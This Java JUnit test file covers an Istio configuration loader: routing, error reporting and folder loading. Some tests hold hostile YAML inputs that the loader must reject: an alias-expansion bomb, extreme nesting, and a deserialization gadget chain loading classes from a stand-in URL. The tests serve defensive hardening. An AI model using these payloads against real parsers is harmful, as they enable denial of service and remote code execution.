package io.foresail.config.reload;

import io.foresail.config.model.ConfigError;
import io.foresail.config.table.Forward;
import io.foresail.config.table.Route;
import io.foresail.config.table.RoutingTable;
import io.foresail.config.table.WeightedDestination;
import io.foresail.config.testing.ConfigFixture;
import io.foresail.config.testing.TestRequest;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static io.foresail.config.testing.ConfigFixture.ECHO_SERVICE;
import static io.foresail.config.testing.ConfigFixture.GATEWAY;
import static io.foresail.config.testing.ConfigFixture.errors;
import static io.foresail.config.testing.ConfigFixture.warnings;
import static org.assertj.core.api.Assertions.assertThat;

class ConfigLoaderTest {

    @TempDir
    Path folder;

    private ConfigFixture fixture;

    @BeforeEach
    void setUp() {
        fixture = new ConfigFixture(folder);
    }

    private static final String SPLIT = GATEWAY + ECHO_SERVICE + """
            apiVersion: networking.istio.io/v1
            kind: VirtualService
            metadata:
              name: echo
            spec:
              hosts: ["*"]
              gateways: [edge]
              http:
              - name: canary
                match:
                - headers:
                    x-canary: {exact: always}
                route:
                - destination: {host: echo.local, subset: v2}
              - name: split
                route:
                - destination: {host: echo.local, subset: v1}
                  weight: 90
                - destination: {host: echo.local, subset: v2}
                  weight: 10
            """;

    @Test
    void weightedSplitForwardsToSubsetClustersWithTheirEndpoints() {
        RoutingTable table = fixture.table(SPLIT);

        assertThat(table.ports()).containsExactly(8081);
        Route route = table.listener(8081).plaintextHttp().virtualHosts().match("anything.example:8081").route(TestRequest.of("/x"));
        assertThat(route.name()).isEqualTo("split");
        Forward forward = (Forward) route.action();
        assertThat(forward.destinations()).extracting(WeightedDestination::clusterName, WeightedDestination::weight)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("outbound|80|v1|echo.local", 90),
                        org.assertj.core.groups.Tuple.tuple("outbound|80|v2|echo.local", 10));
        assertThat(forward.destinations().get(0).cluster()).as("v1 cluster").hasValueSatisfying(cluster ->
                assertThat(cluster.endpoints()).extracting(e -> e.address() + ":" + e.port()).containsExactly("127.0.0.1:9001"));
        assertThat(forward.destinations().get(1).cluster()).as("v2 cluster").hasValueSatisfying(cluster ->
                assertThat(cluster.endpoints()).extracting(e -> e.address() + ":" + e.port()).containsExactly("127.0.0.1:9002"));
    }

    @Test
    void headerMatchRouteWinsWhenTheHeaderIsPresent() {
        RoutingTable table = fixture.table(SPLIT);

        Route route = table.listener(8081).plaintextHttp().virtualHosts().match("a").route(TestRequest.of("/", "x-canary", "always"));

        assertThat(route.name()).isEqualTo("canary");
    }

    @Test
    void everyErrorIsReportedWithFileLineAndFieldPath() {
        LoadResult result = fixture.load("""
                apiVersion: networking.istio.io/v1
                kind: Gateway
                metadata:
                  name: edge
                spec:
                  servers:
                  - port:
                      number: 70000
                      name: http
                      protocol: HTTP
                    hosts: ["*"]
                ---
                apiVersion: networking.istio.io/v1
                kind: VirtualService
                metadata:
                  name: vs
                spec:
                  hosts: ["*"]
                  gateways: [edge]
                  http:
                  - route:
                    - destination: {host: a.example.com}
                      weight: -3
                    - destination: {host: b.example.com}
                      weight: 1
                """);

        assertThat(result).isInstanceOf(LoadResult.Rejected.class);
        String file = folder.resolve("config.yaml").toString();
        assertThat(errors(result)).extracting(ConfigError::toString).containsExactly(
                file + ":8:15: ERROR Gateway/default/edge: spec.servers[0].port.number: 70000 (expected: 1..65535)",
                file + ":23:15: ERROR VirtualService/default/vs: spec.http[0].route[0].weight: -3 (expected: >= 0)");
    }

    @Test
    void yamlSyntaxErrorNamesFileAndLine() {
        LoadResult result = fixture.load("""
                apiVersion: networking.istio.io/v1
                kind: Gateway
                metadata:
                  name: [unclosed
                """);

        assertThat(errors(result)).singleElement().satisfies(error -> {
            assertThat(error.position().file()).isEqualTo(folder.resolve("config.yaml").toString());
            assertThat(error.position().line()).as("line of the problem").isEqualTo(5);
            assertThat(error.message()).startsWith("YAML syntax error");
        });
    }

    @Test
    void aliasBombIsRejectedWithAClearError() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char level = 'b'; level <= 'j'; level++) {
            char previous = (char) (level - 1);
            yaml.append(level).append(": &").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
        }

        LoadResult result = fixture.load(yaml.toString());

        assertThat(errors(result)).singleElement().extracting(ConfigError::message).asString()
                .contains("aliases").contains("50");
    }

    @Test
    void aliasesBelowTheLimitThatExpandHugelyAreRejected() {
        StringBuilder yaml = new StringBuilder("a: &a [");
        for (int i = 0; i < 1000; i++) {
            yaml.append(i == 0 ? "" : ",").append(i);
        }
        yaml.append("]\n");
        for (char level = 'b'; level <= 'f'; level++) {
            char previous = (char) (level - 1);
            yaml.append(level).append(": &").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
        }

        LoadResult result = fixture.load(yaml.toString());

        assertThat(errors(result)).singleElement().extracting(ConfigError::message).asString()
                .contains("once aliases are expanded");
    }

    @Test
    void deepNestingIsRejectedWithAClearError() {
        LoadResult result = fixture.load("a: " + "[".repeat(500) + "]".repeat(500) + "\n");

        assertThat(errors(result)).singleElement().extracting(ConfigError::message).asString()
                .containsIgnoringCase("nesting depth");
    }

    @Test
    void customTagsAreRejectedNotConstructed() {
        LoadResult result = fixture.load("""
                apiVersion: networking.istio.io/v1
                kind: Gateway
                metadata:
                  name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                """);

        assertThat(errors(result)).singleElement().satisfies(error -> {
            assertThat(error.message()).contains("is not allowed");
            assertThat(error.position().line()).isEqualTo(4);
        });
    }

    @Test
    void nonIstioKindIsSkippedWithAWarningNamingFileAndLine() {
        LoadResult result = fixture.load(GATEWAY + """
                apiVersion: apps/v1
                kind: Deployment
                metadata:
                  name: app
                spec:
                  replicas: 1
                """);

        assertThat(result).isInstanceOf(LoadResult.Loaded.class);
        assertThat(warnings(result)).singleElement().satisfies(warning -> {
            assertThat(warning.position().line()).isEqualTo(12);
            assertThat(warning.message()).contains("Deployment").contains("skipped");
        });
    }

    @Test
    void servedVersionsLoadIdentically() {
        List<String> versions = List.of("v1", "v1beta1", "v1alpha3");
        List<RoutingTable> tables = versions.stream()
                .map(version -> fixture.table(SPLIT.replace("networking.istio.io/v1\n", "networking.istio.io/" + version + "\n")))
                .toList();

        for (RoutingTable table : tables) {
            assertThat(table.clusters()).as("clusters").isEqualTo(tables.get(0).clusters());
            assertThat(table.listener(8081).plaintextHttp().virtualHosts().virtualHosts().get(0).domains())
                    .isEqualTo(tables.get(0).listener(8081).plaintextHttp().virtualHosts().virtualHosts().get(0).domains());
            assertThat(ConfigFixture.routeNames(table, 8081, "x")).isEqualTo(ConfigFixture.routeNames(tables.get(0), 8081, "x"));
        }
    }

    @Test
    void folderLoadsYamlFilesByNameSkippingDotEntriesButFollowingSymlinks() throws IOException {
        Path config = folder.resolve("config");
        Path data = config.resolve("..2026_01_01");
        Files.createDirectories(data);
        Files.writeString(data.resolve("gateway.yaml"), GATEWAY);
        Files.createSymbolicLink(config.resolve("..data"), data.getFileName());
        Files.createSymbolicLink(config.resolve("gateway.yaml"), Path.of("..data", "gateway.yaml"));
        Files.writeString(config.resolve(".hidden.yaml"), "not: [valid");
        Files.writeString(config.resolve("notes.txt"), "not: [valid");

        LoadResult result = new ConfigLoader(Optional.empty()).load(List.of(config));

        assertThat(ConfigFixture.loaded(result).ports()).as("the gateway behind the symlink").containsExactly(8081);
    }

    @Test
    void missingSourceIsAnError() {
        LoadResult result = new ConfigLoader(Optional.empty()).load(List.of(folder.resolve("absent.yaml")));

        assertThat(errors(result)).singleElement().extracting(ConfigError::message).isEqualTo("no such file or folder");
    }

    @Test
    void contentHashChangesWithTheBytesAndOnlyWithThem() {
        String first = fixture.table(SPLIT).contentHash();
        String again = fixture.table(SPLIT).contentHash();
        String changed = fixture.table(SPLIT + "\n# comment\n").contentHash();

        assertThat(first).hasSize(64).isEqualTo(again).isNotEqualTo(changed);
    }

    @Test
    void emptyDocumentsAreSkipped() {
        LoadResult result = fixture.load("---\n---\n# nothing\n---\n" + GATEWAY);

        assertThat(ConfigFixture.loaded(result).ports()).containsExactly(8081);
    }

    @Test
    void kubectlListItemsAreRead() {
        LoadResult result = fixture.load("""
                apiVersion: v1
                kind: List
                items:
                - apiVersion: networking.istio.io/v1
                  kind: Gateway
                  metadata: {name: edge}
                  spec:
                    servers:
                    - port: {number: 8082, name: http, protocol: HTTP}
                      hosts: ["*"]
                """);

        assertThat(ConfigFixture.loaded(result).ports()).containsExactly(8082);
    }
}
